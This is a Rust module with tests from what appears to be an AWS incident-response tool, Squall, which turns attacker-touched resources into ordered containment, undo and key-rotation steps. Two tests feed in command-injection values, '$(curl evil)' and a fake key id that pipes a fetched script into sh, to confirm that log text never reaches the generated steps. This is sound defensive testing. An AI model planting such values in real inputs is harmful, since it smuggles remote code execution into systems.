//! What AWS's response to a touched resource is: the steps `squall respond` proposes for it.
//!
//! Each step names the action as the provider's plans name it, so what ran is found in the
//! ledger under the same name. The rules are a responder's: copy a compromised or launched
//! instance before touching it; deactivate keys (the attacker's and the leaked one), contain
//! the users the attacker made or changed and the roles whose sessions it used; stop what it
//! launched only once acquired; undo each change it made; rotate the leaked key. Where Squall
//! has no verb, the step says what to do by hand.

use std::collections::BTreeMap;

use squall_core::Provider;
use squall_core::proposal::{Phase, RecordRef, Step};
use squall_core::touched::{Change, Changed, Kind, Resource, Seen};

use crate::verbs;

/// The steps for one resource, unnumbered (the caller orders and numbers a proposal's steps).
/// A resource seen only through a shared address gets none: it may be a bystander's.
pub fn steps(r: &Resource) -> Vec<Step> {
    if r.address_only || r.provider != Some(Provider::Aws) {
        return Vec::new();
    }
    let changed = |c: Change| r.changes.iter().find(|x| x.change == c);
    let by_attacker = squall_core::proposal::changed_by;
    let used = || squall_core::proposal::used_by_actors(r);
    let step = |phase, action: &str, reason: String, seen: &Seen| Step {
        step: 0,
        phase,
        provider: Provider::Aws,
        action: action.to_string(),
        resource: r.id.clone(),
        account: r.account.clone(),
        // IAM is global: its steps carry no region, so one role is one step.
        region: if regional(r.kind) {
            r.region.clone()
        } else {
            None
        },
        with: BTreeMap::new(),
        reason,
        record: Some(RecordRef::of(seen)),
        after: Vec::new(),
        by_hand: None,
    };
    let first = &r.first_record;
    // What the last change made of it, and its record.
    let last = r.changes.last();
    let undo = |action: &str, c: &Changed| {
        let mut s = step(Phase::Undo, action, by_attacker(c), &c.record);
        if let Some(p) = &c.parent {
            s.with.insert("principal".into(), p.clone());
        }
        s
    };
    // Deleting what the attacker made: after every undo step, and only the one IAM's id
    // names when the record gives it.
    let removal = |action: &str, c: &Changed| {
        let mut s = undo(action, c);
        s.phase = Phase::Remove;
        if let Some(id) = &c.unique_id {
            s.with.insert("id".into(), id.clone());
        }
        s
    };
    let by_hand = |mut s: Step, what: &str| {
        s.by_hand = Some(what.to_string());
        s
    };
    let mut out = Vec::new();
    if r.deleted() && r.kind != Kind::Trail {
        return out;
    }
    match r.kind {
        Kind::AccessKey if r.id.starts_with("AKIA") => {
            let made = changed(Change::Created);
            let reason = made.map(by_attacker).unwrap_or_else(used);
            let seen = made.map(|c| &*c.record).unwrap_or(first);
            out.push(step(Phase::Contain, "deactivate-access-key", reason, seen));
            // A key the attacker made is evidence, not a credential to keep; a leaked one is
            // replaced once contained.
            if made.is_none() {
                let rotate = step(Phase::Rotate, "rotate-access-key", used(), first);
                // Prose, never a command with the log's id in it: the key is the step's resource.
                out.push(by_hand(
                    rotate,
                    "rotate the step's key with `squall recover aws key KEY --rotate \
                     --secret-file FILE --case CASE`, or carry the response out with \
                     `--secret-dir DIR` (the new secret goes to that file; hand it to the key's \
                     owner)",
                ));
            }
        }
        Kind::SessionKey => {
            if let Some(role) = r.parent.as_deref().and_then(|p| p.strip_prefix("role ")) {
                let mut s = step(Phase::Contain, "contain-role", used(), first);
                s.resource = role.to_string();
                s.reason = format!("its session key {} was {}", r.id, used());
                out.push(s);
            }
        }
        Kind::User => {
            // The attacker's own users. A user it only changed (a key made for it, a policy
            // put on it) is answered by undoing those changes, and a user whose key leaked by
            // the key's steps: containing either would lock its owner out, which an attacker
            // could steer a responder into by touching a break-glass user.
            if let Some(c) = changed(Change::Created) {
                out.push(step(
                    Phase::Contain,
                    "contain-user",
                    by_attacker(c),
                    &c.record,
                ));
                // Then gone, once described: its keys, login, groups and policies go into
                // the plan recorded in the ledger before anything is removed.
                out.push(removal("delete-user", c));
            }
        }
        Kind::Role => {
            let reason = last.map(by_attacker).unwrap_or_else(used);
            out.push(step(Phase::Contain, "contain-role", reason, first));
            // A role the attacker made (a backdoor trusting its own account) goes once
            // described: containing it stops only the sessions issued so far.
            if let Some(c) = changed(Change::Created) {
                out.push(removal("delete-role", c));
            }
            if let Some(c) = r.changes.iter().find(|c| c.change == Change::Modified) {
                let restore = undo("restore-trust-policy", c);
                out.push(by_hand(
                    restore,
                    "restore the role's trust policy from before the change (the previous \
                     document is in the account's history, not in the log)",
                ));
            }
        }
        Kind::Instance => {
            let launched = changed(Change::Launched);
            let seen = launched.map(|c| &*c.record).unwrap_or(first);
            let reason = launched
                .map(by_attacker)
                .or_else(|| last.map(by_attacker))
                .unwrap_or_else(used);
            out.push(step(
                Phase::Acquire,
                "acquire-instance",
                reason.clone(),
                seen,
            ));
            let contain = if launched.is_some() {
                step(Phase::Stop, "stop-instance", reason, seen)
            } else {
                step(Phase::Contain, "isolate-instance", reason, seen)
            };
            out.push(contain);
        }
        Kind::LoginProfile => {
            if let Some(c) = changed(Change::Created).or(changed(Change::Modified)) {
                out.push(undo("disable-login", c));
            }
        }
        // Named as the verb's records name them: `user/backup:arn:aws:iam::aws:policy/...`.
        Kind::ManagedPolicy => {
            for c in r.changes.iter().filter(|c| c.change == Change::Attached) {
                let mut s = undo("detach-policy", c);
                if let Some(holder) = c.parent.as_deref().and_then(holder) {
                    s.resource = format!("{holder}:{}", r.id);
                }
                out.push(s);
            }
            // One it wrote goes too, once every version is recorded (after the detaching).
            if let Some(c) = changed(Change::Created) {
                out.push(removal("delete-policy", c));
            }
        }
        Kind::InlinePolicy => {
            if let Some(c) = changed(Change::Created) {
                let mut s = undo("delete-inline-policy", c);
                if let Some(holder) = c.parent.as_deref().and_then(holder) {
                    s.resource = format!("{holder}:{}", r.id);
                }
                out.push(s);
            }
        }
        Kind::PolicyVersion => {
            if let Some(c) = last {
                out.push(by_hand(
                    undo("restore-policy-version", c),
                    "squall recover aws policy-version ARN --default-version VERSION (the version \
                     that was the default before; the policy lists its versions)",
                ));
            }
        }
        Kind::KeyPair => {
            if let Some(c) = changed(Change::Created) {
                out.push(undo("delete-key-pair", c));
            }
        }
        Kind::Firewall => {
            // Every world-open rule of every change that opened the group: those `recover aws
            // firewall` closes (SSH, RDP, all ports) by one step for the group, each other one
            // revoked as it was added, for each of its world ranges (IPv4 and IPv6).
            let mut replaced = false;
            for c in r.changes.iter().filter(|c| c.change == Change::Opened) {
                for rule in c.rules.iter().filter(|x| x.ingress && x.is_world()) {
                    let closes = verbs::acting_on(
                        r.kind,
                        &r.id,
                        None,
                        &[Change::Opened],
                        std::slice::from_ref(rule),
                    );
                    if closes.is_some() {
                        if !replaced {
                            out.push(undo("replace-world-rule", c));
                            replaced = true;
                        }
                        continue;
                    }
                    for peer in rule.peers.iter().filter(|p| p.ends_with("/0")) {
                        out.push(revoke(undo("revoke-rule", c), &r.id, rule, peer));
                    }
                }
            }
        }
        Kind::Snapshot | Kind::Image => {
            if let Some(c) = changed(Change::Shared) {
                let action = if r.kind == Kind::Snapshot {
                    "unshare-snapshot"
                } else {
                    "unshare-image"
                };
                let mut s = undo(action, c);
                match shared_with(c.detail.as_deref()) {
                    Some(accounts) => {
                        s.with.insert("from".into(), accounts.join(","));
                        out.push(s);
                    }
                    None => out.push(by_hand(
                        s,
                        "the record does not name every account it was shared with: list them \
                         (describe-snapshot-attribute) and unshare with squall recover aws \
                         unshare --from ACCOUNT",
                    )),
                }
            }
        }
        Kind::Trail => match last {
            Some(c) if c.change == Change::Deleted => out.push(by_hand(
                undo("recreate-trail", c),
                "recreate the trail (its settings are in the account's configuration history)",
            )),
            Some(_) => {
                // Stopped, narrowed or both (the quiet way first, then the loud one): each
                // answered, the narrowing once logging is back.
                if let Some(c) = changed(Change::Stopped) {
                    out.push(undo("start-logging", c));
                }
                out.extend(trail_restores(r, &undo, &by_hand));
            }
            None => {}
        },
        Kind::Monitoring | Kind::Bucket | Kind::Function => {
            if let Some(c) = last {
                let what = format!(
                    "undo by hand: the step's {} was {} (its reason and record say how)",
                    r.kind.name().replace('_', " "),
                    c.change.past(),
                );
                out.push(by_hand(undo("restore", c), &what));
            }
        }
        _ => {}
    }
    out
}

/// The step that closes what an inventory found open to the world (a security group's SSH
/// rule), for an account the case touched: the way in was often there before the attacker.
pub fn hardening(r: &squall_core::Resource) -> Option<Step> {
    if r.provider != Provider::Aws
        || r.kind.as_deref() != Some("firewall")
        || r.open_to_world.is_empty()
    {
        return None;
    }
    Some(Step {
        step: 0,
        phase: Phase::Harden,
        provider: Provider::Aws,
        action: "replace-world-rule".into(),
        resource: r.id.clone(),
        account: Some(r.account.clone()),
        region: r.region.clone(),
        with: BTreeMap::new(),
        reason: format!(
            "open to the world when the account's inventory was read: {}",
            r.open_to_world.join(", ")
        ),
        record: None,
        after: Vec::new(),
        by_hand: None,
    })
}

/// Kinds that live in one region (everything but IAM).
/// The steps for a trail the attacker changed but left logging, from what its records say
/// changed (fixed words, see `trail_change`): `restore-trail` for what Squall puts back itself
/// (every management event, validation, global events, every region when that was turned
/// off), and a step by hand naming the rest (the bucket, encryption, CloudWatch Logs, SNS),
/// whose earlier values no log holds. A change the record does not detail gets both.
fn trail_restores(
    r: &Resource,
    undo: &dyn Fn(&str, &Changed) -> Step,
    by_hand: &dyn Fn(Step, &str) -> Step,
) -> Vec<Step> {
    use squall_core::touched::trail_change::{self as said, RESTORED};
    let modified: Vec<&Changed> = r
        .changes
        .iter()
        .filter(|c| c.change == Change::Modified)
        .collect();
    let Some(last) = modified.last() else {
        return Vec::new();
    };
    let known = [
        said::MULTI_REGION_OFF,
        said::GLOBAL_EVENTS_OFF,
        said::VALIDATION_OFF,
        said::BUCKET,
        said::PREFIX,
        said::ENCRYPTION,
        said::CLOUDWATCH,
        said::SNS,
        said::ORGANIZATION_OFF,
        said::SELECTORS,
        said::INSIGHTS,
    ];
    let undetailed = modified.iter().any(|c| c.detail.is_none());
    let mut words: Vec<&str> = Vec::new();
    for c in &modified {
        for w in c.detail.as_deref().unwrap_or_default().split(", ") {
            // Only the reader's own words: never the log's text in a step.
            if let Some(w) = known.iter().find(|k| **k == w)
                && !words.contains(w)
            {
                words.push(w);
            }
        }
    }
    let mut out = Vec::new();
    if undetailed || words.iter().any(|w| RESTORED.contains(w)) {
        let mut s = undo("restore-trail", last);
        if words.contains(&said::MULTI_REGION_OFF) {
            s.with.insert("multi_region".into(), "true".into());
        }
        out.push(s);
    }
    let rest: Vec<&str> = words
        .iter()
        .copied()
        .filter(|w| !RESTORED.contains(w))
        .collect();
    if undetailed || !rest.is_empty() {
        let what = if rest.is_empty() {
            "the trail's other settings".to_string()
        } else {
            rest.join(", ")
        };
        out.push(by_hand(
            undo("restore-trail-settings", last),
            &format!(
                "set back by hand what Squall does not restore: {what} (the earlier values are \
                 in your configuration history, not in the log; aws cloudtrail update-trail)"
            ),
        ));
    }
    out
}

fn regional(kind: Kind) -> bool {
    !matches!(
        kind,
        Kind::Principal
            | Kind::AccessKey
            | Kind::SessionKey
            | Kind::User
            | Kind::Role
            | Kind::Group
            | Kind::LoginProfile
            | Kind::InlinePolicy
            | Kind::ManagedPolicy
            | Kind::PolicyVersion
    )
}

/// `user backup` → `user/backup`: how the undo verbs name a policy's holder.
fn holder(parent: &str) -> Option<String> {
    let (kind, name) = parent.split_once(' ')?;
    matches!(kind, "user" | "role" | "group").then(|| format!("{kind}/{name}"))
}

/// A step revoking one ingress rule, named as `revoke-rule` names it
/// (`sg-1:tcp/22:0.0.0.0/0`), its parts in `with`.
fn revoke(mut s: Step, group: &str, rule: &squall_core::touched::Rule, cidr: &str) -> Step {
    let protocol = if rule.protocol == "all" {
        "-1".to_string()
    } else {
        rule.protocol.clone()
    };
    let ports = match rule.ports {
        _ if protocol == "-1" => None,
        Some((a, b)) if a == b => Some(a.to_string()),
        Some((a, b)) => Some(format!("{a}-{b}")),
        None => None,
    };
    let cidr = cidr.to_string();
    s.resource = format!(
        "{group}:{protocol}/{}:{cidr}",
        ports.as_deref().unwrap_or("all")
    );
    s.with.insert("group".into(), group.to_string());
    s.with.insert("protocol".into(), rule.protocol.clone());
    if let Some(p) = ports {
        s.with.insert("port".into(), p);
    }
    s.with.insert("cidr".into(), cidr);
    s
}

/// The accounts a share named (`shared with everyone (public), 999988887777` → `all`,
/// `999988887777`); `None` when the record's list was cut short or names none.
fn shared_with(detail: Option<&str>) -> Option<Vec<String>> {
    let list = detail?.strip_prefix("shared with ")?;
    if list.contains(" more") {
        return None;
    }
    let accounts: Vec<String> = list
        .split(", ")
        .map(|a| {
            if a == "everyone (public)" {
                "all".to_string()
            } else {
                a.to_string()
            }
        })
        .collect();
    (!accounts.is_empty()).then_some(accounts)
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use squall_core::touched::Rule;

    use super::*;

    fn seen(i: u64) -> Arc<Seen> {
        Arc::new(Seen {
            time: format!("2026-11-02T10:0{i}:00.000Z"),
            principal: Some("arn:aws:iam::1:user/ci".into()),
            action: None,
            source_ip: None,
            file: "/l/ct.json".into(),
            record_index: i,
            event_id: None,
        })
    }

    fn resource(kind: Kind, id: &str, changes: &[(Change, Option<&str>)]) -> Resource {
        Resource {
            provider: Some(Provider::Aws),
            kind,
            id: id.into(),
            parent: None,
            detail: None,
            account: Some("111122223333".into()),
            region: Some("eu-west-1".into()),
            first_seen: "2026-11-02T10:00:00.000Z".into(),
            last_seen: "2026-11-02T10:09:00.000Z".into(),
            events: 1,
            address_only: false,
            changes: changes
                .iter()
                .enumerate()
                .map(|(i, (c, parent))| Changed {
                    change: *c,
                    parent: parent.map(String::from),
                    detail: None,
                    rules: Vec::new(),
                    unique_id: None,
                    record: seen(i as u64 + 1),
                })
                .collect(),
            first_record: seen(0),
        }
    }

    fn actions(r: &Resource) -> Vec<(Phase, String, String)> {
        steps(r)
            .into_iter()
            .map(|s| (s.phase, s.action, s.resource))
            .collect()
    }

    #[test]
    fn a_leaked_key_is_contained_and_rotated_and_the_attackers_key_only_contained() {
        let leaked = resource(Kind::AccessKey, "AKIALEAKED0000000001", &[]);
        let steps_of_leaked = steps(&leaked);
        assert_eq!(
            actions(&leaked),
            [
                (
                    Phase::Contain,
                    "deactivate-access-key".into(),
                    "AKIALEAKED0000000001".into()
                ),
                (
                    Phase::Rotate,
                    "rotate-access-key".into(),
                    "AKIALEAKED0000000001".into()
                ),
            ]
        );
        assert!(
            steps_of_leaked[1].by_hand.is_some(),
            "rotation needs a secret file"
        );
        let made = resource(
            Kind::AccessKey,
            "AKIAMADE000000000001",
            &[(Change::Created, Some("user backup"))],
        );
        assert_eq!(actions(&made).len(), 1);
        assert_eq!(steps(&made)[0].record.as_ref().unwrap().record_index, 1);
        assert!(
            steps(&made)[0]
                .reason
                .starts_with("created by arn:aws:iam::1:user/ci")
        );
    }

    #[test]
    fn instances_are_acquired_before_they_are_stopped_or_isolated() {
        let launched = resource(Kind::Instance, "i-1", &[(Change::Launched, None)]);
        assert_eq!(
            actions(&launched),
            [
                (Phase::Acquire, "acquire-instance".into(), "i-1".into()),
                (Phase::Stop, "stop-instance".into(), "i-1".into()),
            ]
        );
        let compromised = resource(Kind::Instance, "i-2", &[]);
        assert_eq!(actions(&compromised)[1].1, "isolate-instance");
    }

    #[test]
    fn each_change_is_undone_and_what_squall_cannot_do_says_how() {
        let policy = resource(
            Kind::ManagedPolicy,
            "arn:aws:iam::aws:policy/AdministratorAccess",
            &[(Change::Attached, Some("user backup"))],
        );
        let detach = &steps(&policy)[0];
        assert_eq!(detach.action, "detach-policy");
        assert_eq!(detach.with["principal"], "user backup");
        assert_eq!(
            detach.resource,
            "user/backup:arn:aws:iam::aws:policy/AdministratorAccess"
        );
        let trail = resource(Kind::Trail, "org", &[(Change::Stopped, None)]);
        assert_eq!(
            actions(&trail),
            [(Phase::Undo, "start-logging".into(), "org".into())]
        );
        let both = resource(
            Kind::Trail,
            "org",
            &[(Change::Modified, None), (Change::Stopped, None)],
        );
        assert_eq!(
            actions(&both),
            [
                (Phase::Undo, "start-logging".into(), "org".into()),
                (Phase::Undo, "restore-trail".into(), "org".into()),
                (Phase::Undo, "restore-trail-settings".into(), "org".into())
            ]
        );
        // What the records say changed decides: the selectors and multi-region Squall
        // restores (every region again); the bucket is left to the analyst, by name.
        let mut narrowed = resource(
            Kind::Trail,
            "org",
            &[(Change::Modified, None), (Change::Modified, None)],
        );
        narrowed.changes[0].detail = Some("event selectors replaced".into());
        narrowed.changes[1].detail =
            Some("multi-region off, delivery bucket changed, $(curl evil)".into());
        let s = steps(&narrowed);
        assert_eq!(s[0].action, "restore-trail");
        assert_eq!(s[0].with["multi_region"], "true");
        assert_eq!(s[1].action, "restore-trail-settings");
        let hand = s[1].by_hand.as_deref().unwrap();
        assert!(hand.contains("delivery bucket changed"), "{hand}");
        assert!(!hand.contains("curl"), "{hand}");
        // Only the bucket: nothing for Squall to restore, one step by hand.
        let moved = {
            let mut r = resource(Kind::Trail, "org", &[(Change::Modified, None)]);
            r.changes[0].detail = Some("delivery bucket changed".into());
            r
        };
        assert_eq!(
            actions(&moved),
            [(Phase::Undo, "restore-trail-settings".into(), "org".into())]
        );
        let deleted = resource(Kind::Trail, "org", &[(Change::Deleted, None)]);
        assert!(steps(&deleted)[0].by_hand.is_some());
        let mut open = resource(
            Kind::Firewall,
            "sg-0123456789abcdef0",
            &[(Change::Opened, None)],
        );
        open.changes[0].rules = vec![Rule {
            ingress: true,
            protocol: "tcp".into(),
            ports: Some((22, 22)),
            peers: vec!["0.0.0.0/0".into()],
        }];
        assert_eq!(steps(&open)[0].action, "replace-world-rule");
        open.changes[0].rules[0].ports = Some((5432, 5432));
        let revoke = &steps(&open)[0];
        assert_eq!(revoke.action, "revoke-rule");
        assert_eq!(revoke.resource, "sg-0123456789abcdef0:tcp/5432:0.0.0.0/0");
        assert_eq!(revoke.with["port"], "5432");
        let mut shared = resource(Kind::Snapshot, "snap-1", &[(Change::Shared, None)]);
        shared.changes[0].detail = Some("shared with everyone (public), 999988887777".into());
        assert_eq!(steps(&shared)[0].with["from"], "all,999988887777");
        shared.changes[0].detail = Some("shared with 1, 2 and 7 more".into());
        assert!(steps(&shared)[0].by_hand.is_some());
    }

    #[test]
    fn every_world_rule_of_every_opening_is_undone() {
        let rule = |port: u32, peers: &[&str]| Rule {
            ingress: true,
            protocol: "tcp".into(),
            ports: Some((port, port)),
            peers: peers.iter().map(|p| p.to_string()).collect(),
        };
        let mut sg = resource(
            Kind::Firewall,
            "sg-0123456789abcdef0",
            &[(Change::Opened, None), (Change::Opened, None)],
        );
        sg.changes[0].rules = vec![rule(22, &["0.0.0.0/0"]), rule(5432, &["0.0.0.0/0"])];
        sg.changes[1].rules = vec![
            rule(3306, &["0.0.0.0/0", "::/0"]),
            rule(6379, &["10.0.0.0/8"]),
        ];
        let got: Vec<String> = steps(&sg)
            .into_iter()
            .map(|s| format!("{} {}", s.action, s.resource))
            .collect();
        assert_eq!(
            got,
            [
                "replace-world-rule sg-0123456789abcdef0",
                "revoke-rule sg-0123456789abcdef0:tcp/5432:0.0.0.0/0",
                "revoke-rule sg-0123456789abcdef0:tcp/3306:0.0.0.0/0",
                "revoke-rule sg-0123456789abcdef0:tcp/3306:::/0",
            ]
        );
    }

    #[test]
    fn what_the_inventory_found_open_is_closed_last() {
        let group = |open: &[&str]| squall_core::Resource {
            provider: Provider::Aws,
            account: "111122223333".into(),
            id: "sg-0123456789abcdef0".into(),
            kind: Some("firewall".into()),
            tags: Default::default(),
            region: Some("eu-west-1".into()),
            open_to_world: open.iter().map(|o| o.to_string()).collect(),
            addresses: Vec::new(),
        };
        let step = hardening(&group(&["tcp 22 from 0.0.0.0/0"])).unwrap();
        assert_eq!(
            (step.phase, step.action.as_str(), step.region.as_deref()),
            (Phase::Harden, "replace-world-rule", Some("eu-west-1"))
        );
        assert!(step.reason.ends_with("tcp 22 from 0.0.0.0/0"));
        assert!(hardening(&group(&[])).is_none());
    }

    #[test]
    fn a_leaked_keys_rotation_names_no_id_from_the_log() {
        let hostile = resource(Kind::AccessKey, "AKIAX$(curl${IFS}evil.sh|sh)", &[]);
        let rotate = steps(&hostile).pop().unwrap();
        assert_eq!(rotate.action, "rotate-access-key");
        assert!(!rotate.by_hand.unwrap().contains("curl"));
    }

    #[test]
    fn bystanders_and_a_leaked_keys_owner_are_not_contained() {
        let mut bob = resource(Kind::AccessKey, "AKIABOB0000000000001", &[]);
        bob.address_only = true;
        assert!(steps(&bob).is_empty());
        let owner = resource(Kind::User, "ci", &[]);
        assert!(steps(&owner).is_empty());
        let made = resource(Kind::User, "backup", &[(Change::Created, None)]);
        let made_steps = actions(&made);
        assert_eq!(made_steps[0].1, "contain-user");
        // Contained first, deleted (once described) after every undo step.
        assert_eq!(
            made_steps[1],
            (
                Phase::Remove,
                "delete-user".to_string(),
                "backup".to_string()
            )
        );
        // A role it made: its sessions cut, then the role itself gone.
        let role = resource(Kind::Role, "ops-support", &[(Change::Created, None)]);
        assert_eq!(
            actions(&role),
            [
                (Phase::Contain, "contain-role".into(), "ops-support".into()),
                (Phase::Remove, "delete-role".into(), "ops-support".into())
            ]
        );
        // A policy it wrote: detached from whom it was attached to, then deleted.
        let wrote = resource(
            Kind::ManagedPolicy,
            "arn:aws:iam::111122223333:policy/god-mode",
            &[
                (Change::Created, None),
                (Change::Attached, Some("user backup")),
            ],
        );
        let phases: Vec<(Phase, String)> = actions(&wrote)
            .into_iter()
            .map(|(p, a, _)| (p, a))
            .collect();
        assert_eq!(
            phases,
            [
                (Phase::Undo, "detach-policy".into()),
                (Phase::Remove, "delete-policy".into())
            ]
        );
        // A user the attacker only changed is answered by undoing the change.
        let changed = resource(Kind::User, "break-glass", &[(Change::Modified, None)]);
        assert!(steps(&changed).is_empty());
    }
}
